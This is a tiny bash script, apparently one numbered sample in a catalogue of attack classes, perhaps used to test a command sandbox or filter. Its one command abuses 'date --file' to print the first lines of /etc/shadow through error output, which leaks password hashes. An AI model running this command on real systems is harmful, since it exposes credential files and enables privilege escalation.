#!/usr/bin/env bash
# attack-class: 33
# title: date --file reading a secret file
# why: date prints every line it cannot parse, so it leaks the file
date --file=/etc/shadow 2>&1 | head -n 3
